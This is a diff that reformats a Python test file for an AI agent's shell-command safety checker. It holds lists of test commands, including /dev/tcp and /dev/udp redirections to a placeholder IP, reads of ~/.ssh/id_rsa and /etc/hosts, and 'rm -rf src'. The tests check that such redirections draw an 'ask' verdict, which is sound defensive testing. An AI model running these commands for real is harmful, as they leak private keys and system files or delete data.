@@ -16,25 +16,11 @@ from acp_agent.safety.folders.paths import Roots
 from tests.nightly import times
 
 PIECES = (
-    "ls",
-    "cat a.txt",
-    "cat < a.txt",
-    "cat < /dev/tcp/198.51.100.1/80",
-    "head -c 9 < /dev/udp/198.51.100.1/53",
-    "cat < ../other/secret",
-    "grep x < ~/.ssh/id_rsa",
-    "echo hi > /dev/tcp/198.51.100.1/80",
-    "cargo test",
-    "rm -rf src",
-    "git status",
-    "git status < ../x",
-    "sudo ls",
-    "wc -l 0< /etc/hosts",
-    "cat <<< x",
-    "cat <> a.txt",
-    "$X",
+    "ls", "cat a.txt", "cat < a.txt", "cat < /dev/tcp/198.51.100.1/80", "head -c 9 < /dev/udp/198.51.100.1/53",
+    "cat < ../other/secret", "grep x < ~/.ssh/id_rsa", "echo hi > /dev/tcp/198.51.100.1/80", "cargo test", "rm -rf src",
+    "git status", "git status < ../x", "sudo ls", "wc -l 0< /etc/hosts", "cat <<< x", "cat <> a.txt", "$X",
     "sh -c 'cat < /etc/hosts'",
-)
+)  # fmt: skip
 JOINS = ("; ", " && ", " || ", " | ")
 PATTERNS = ("*", "cargo *", "git *", "cat *", "cat", "ls", "terraform *", "rm *", "*sudo*", "cargo test", "never this")
 RANK: dict[type[Verdict], int] = {Allow: 0, Ask: 1, Deny: 2}
@@ -77,18 +63,11 @@ def test_a_rule_that_allows_something_else_answers_nothing(tmp_path: Path, line:
     assert judged(tmp_path, line, [rule("never this", "allow")]) == judged(tmp_path, line, [])
 
 
-@pytest.mark.parametrize(
-    "line",
-    [
-        "cat < /dev/tcp/198.51.100.1/80",
-        "cat < /dev/udp/198.51.100.1/53",
-        "cat < ../other/secret",
-        "cat 0< /etc/hosts",
-        "cargo test && cat < ../other/secret",
-        "cargo test; head < /dev/tcp/198.51.100.1/80",
-        "cargo test < ../other/secret",
-    ],
-)
+@pytest.mark.parametrize("line", [
+    "cat < /dev/tcp/198.51.100.1/80", "cat < /dev/udp/198.51.100.1/53", "cat < ../other/secret", "cat 0< /etc/hosts",
+    "cargo test && cat < ../other/secret", "cargo test; head < /dev/tcp/198.51.100.1/80",
+    "cargo test < ../other/secret",
+])  # fmt: skip
 def test_a_redirection_is_not_covered_by_a_rule_for_the_program(tmp_path: Path, line: str) -> None:
     for rules in ([], [rule("terraform *", "deny")], [rule("cargo *", "allow")], [rule("cat *", "allow")]):
         assert isinstance(judged(tmp_path, line, rules), Ask), rules
